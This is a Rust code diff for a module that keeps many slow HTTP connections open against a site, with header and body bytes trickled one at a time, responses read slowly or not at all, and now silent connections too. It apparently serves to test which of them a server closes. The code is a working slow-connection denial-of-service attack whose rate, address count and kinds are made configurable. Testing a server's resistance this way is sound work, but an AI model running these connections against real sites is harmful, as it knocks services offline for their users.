@@ -1,5 +1,5 @@
-//! Slow connections: they send a header or a body byte by byte, or read the response slowly or not at all. The
-//! kernel's table says which of them the server still holds.
+//! Slow connections: they send nothing, or a header or a body byte by byte, or read the response slowly or not at all.
+//! The kernel's table says which of them the server still holds.
 
 use std::collections::HashSet;
 use std::io::{Read, Write};
@@ -10,14 +10,13 @@ use std::time::{Duration, Instant};
 use anyhow::{Context, Result};
 use rustix::net::{AddressFamily, SocketType, sockopt};
 
-/// New connections per step: 200 a second, four times the default of slowhttptest. More would be a connection flood,
-/// which is another attack.
-const OPENED_A_STEP: usize = 40;
 /// How often each connection sends or reads, and the kernel's table is read.
-const STEP: Duration = Duration::from_millis(200);
+const STEP: Duration = Duration::from_millis(1_000 / STEPS_A_SECOND as u64);
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub(super) enum Kind {
+    /// Sends nothing.
+    Silent,
     Header,
     Body,
     /// Reads nothing.
@@ -26,7 +25,19 @@ pub(super) enum Kind {
     SlowRead,
 }
 
-pub(super) const KINDS: [Kind; 4] = [Kind::Header, Kind::Body, Kind::NoRead, Kind::SlowRead];
+#[derive(Debug, Clone, Copy)]
+pub(super) struct Attack<'a> {
+    pub(super) kinds: &'a [Kind],
+    /// Connections at a time.
+    pub(super) count: usize,
+    pub(super) opened_a_second: usize,
+    /// The number of client addresses.
+    pub(super) addresses: usize,
+    /// A path with a large response.
+    pub(super) page: &'a str,
+}
+
+const STEPS_A_SECOND: usize = 5;
 /// Bytes per step: a kilobyte a second.
 const SLOW_READ: usize = 200;
 
@@ -48,9 +59,13 @@ pub(super) struct Lifetimes {
 }
 
 impl Lifetimes {
-    /// The number of kinds of which the server closed at least one.
-    pub(super) fn kinds_closed(&self) -> usize {
-        KINDS.iter().filter(|kind| self.seconds.iter().any(|(closed, _)| closed == *kind)).count()
+    /// The number of these kinds of which the server closed at least one.
+    pub(super) fn kinds_closed(&self, kinds: &[Kind]) -> usize {
+        kinds.iter().filter(|kind| self.seconds.iter().any(|(closed, _)| closed == *kind)).count()
+    }
+
+    pub(super) fn shown(&self) -> String {
+        format!("{} / {}", self.opened, self.seconds.len())
     }
 
     pub(super) fn longest(&self) -> f64 {
@@ -58,21 +73,21 @@ impl Lifetimes {
     }
 }
 
-/// Keeps `count` connections open until `is_over`, replacing closed ones. `page` is a path with a large response.
-pub(super) fn keep_open(site: SocketAddr, count: usize, page: &str, is_over: &AtomicBool) -> Result<Lifetimes> {
+/// Keeps the connections open until `is_over`, replacing closed ones.
+pub(super) fn keep_open(site: SocketAddr, attack: Attack, is_over: &AtomicBool) -> Result<Lifetimes> {
     let mut lifetimes = Lifetimes::default();
     let mut idle: Vec<IdleConnection> = Vec::new();
     while !is_over.load(Ordering::Relaxed) {
         let step_ends = Instant::now() + STEP;
-        for _ in 0..(count - idle.len()).min(OPENED_A_STEP) {
-            idle.push(open(site, lifetimes.opened, page).context("a slow connection cannot be opened")?);
+        for _ in 0..(attack.count - idle.len()).min(attack.opened_a_second / STEPS_A_SECOND) {
+            idle.push(open(site, lifetimes.opened, attack).context("a slow connection cannot be opened")?);
             lifetimes.opened += 1;
         }
         for connection in &mut idle {
             // A closed connection fails here and is found below.
             match connection.kind {
                 Kind::Header | Kind::Body => drop(connection.stream.write(b"x")),
-                Kind::NoRead => {}
+                Kind::Silent | Kind::NoRead => {}
                 Kind::SlowRead => drop(connection.stream.read(&mut [0; SLOW_READ])),
             }
         }
@@ -90,10 +105,9 @@ pub(super) fn keep_open(site: SocketAddr, count: usize, page: &str, is_over: &At
     Ok(lifetimes)
 }
 
-/// From one of 200 client addresses.
-fn open(site: SocketAddr, number: usize, page: &str) -> Result<IdleConnection> {
-    let kind = KINDS[number % KINDS.len()];
-    let machine = u8::try_from(number % 200)?;
+fn open(site: SocketAddr, number: usize, attack: Attack) -> Result<IdleConnection> {
+    let kind = attack.kinds[number % attack.kinds.len()];
+    let machine = u8::try_from(number % attack.addresses)?;
     let socket = rustix::net::socket(AddressFamily::INET, SocketType::STREAM, None)?;
     if matches!(kind, Kind::NoRead | Kind::SlowRead) {
         sockopt::set_socket_recv_buffer_size(&socket, 4096)?;
@@ -104,12 +118,13 @@ fn open(site: SocketAddr, number: usize, page: &str) -> Result<IdleConnection> {
     stream.set_nonblocking(true)?;
     let source = stream.local_addr()?;
     let start = match kind {
+        Kind::Silent => String::new(),
         Kind::Header => format!("GET / HTTP/1.1\r\nHost: {site}\r\nX-Slow: "),
         Kind::Body => format!(
             "POST /api/send-email HTTP/1.1\r\nHost: {site}\r\nOrigin: http://{site}\r\nContent-Type: application/json\r\n\
              Content-Length: 20000\r\n\r\n{{\"message\":\""
         ),
-        Kind::NoRead | Kind::SlowRead => format!("GET {page} HTTP/1.1\r\nHost: {site}\r\n\r\n").repeat(100),
+        Kind::NoRead | Kind::SlowRead => format!("GET {} HTTP/1.1\r\nHost: {site}\r\n\r\n", attack.page).repeat(100),
     };
     // A full send buffer is expected: these connections do not read.
     let _ = stream.write(start.as_bytes());
